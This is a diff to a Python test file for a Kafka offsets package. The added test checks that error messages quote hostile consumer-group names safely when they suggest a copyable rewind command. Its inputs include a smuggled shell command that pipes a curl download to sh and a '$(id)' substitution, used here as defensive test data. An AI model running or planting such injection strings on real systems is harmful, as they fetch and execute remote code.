@@ -2,18 +2,27 @@
 
 from __future__ import annotations
 
+import shlex
 import unicodedata
 from types import SimpleNamespace
+from typing import Any
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from airflow_kafka_offsets.core.offsets import Slice, TopicPartition
+from airflow_kafka_offsets.core.offsets import OffsetRange, Slice, TopicPartition
 from airflow_kafka_offsets.escaping import printable
-from airflow_kafka_offsets.exceptions import ConfigurationError, RecordError, VerificationError, Violation
+from airflow_kafka_offsets.exceptions import (
+    ConfigurationError,
+    RecordError,
+    TransformError,
+    VerificationError,
+    Violation,
+)
 from airflow_kafka_offsets.hooks.metrics import emit_lag
 from airflow_kafka_offsets.lag.report import LagReport, PartitionLag
+from airflow_kafka_offsets.ledger.double_loads import _double_load
 from airflow_kafka_offsets.rewinding.scenarios import write_offsets
 from tests.support.hostile import HOSTILE, controls, hostile_texts
 
@@ -56,14 +65,32 @@ def test_every_category_of_characters_is_visible_or_escaped() -> None:
 
 def test_errors_say_nothing_that_is_not_visible() -> None:
     errors = [
-        ConfigurationError(f"The transform raised ValueError: {HOSTILE}\n  File {HOSTILE}"),
+        TransformError(f"The transform raised ValueError: {HOSTILE}\n  File {HOSTILE}"),
+        ConfigurationError(f"Group {HOSTILE}\n"),
         RecordError(HOSTILE, HOSTILE, 0, 1),
         VerificationError(HOSTILE, (Violation(HOSTILE),)),
     ]
 
-    for error in errors:
-        assert controls(str(error)) <= {"\n"}
+    assert controls(str(errors[0])) == {"\n"}
     assert "\n  File " in str(errors[0])
+    for error in errors[1:]:
+        assert not controls(str(error))
+
+
+@given(hostile_texts() | st.just("old; curl -s https://stranger/x | sh #") | st.just("$(id)`id`'\"\n"))
+def test_a_command_to_copy_has_a_name_as_one_word(name: str) -> None:
+    row = SimpleNamespace(
+        kind="replay", state="committed", batch_id=3, consumer_group=name, start_offset=0, end_offset=10
+    )
+    planned: Any = OffsetRange(name, 0, 0, 10, 10)
+    none: Any = None
+
+    error = str(_double_load(none, none, row, "offsets", name, "orders", planned))
+
+    command = error[error.index("kafka-offsets ") : error.index(" --to-offset")]
+    topic = f"{printable(name)}:0"
+    assert shlex.split(command) == ["kafka-offsets", "rewind", printable(name), "--topic", topic]
+    assert not controls(error)
 
 
 def test_a_topic_of_the_state_tables_ends_no_line_of_metrics_and_of_csv() -> None:
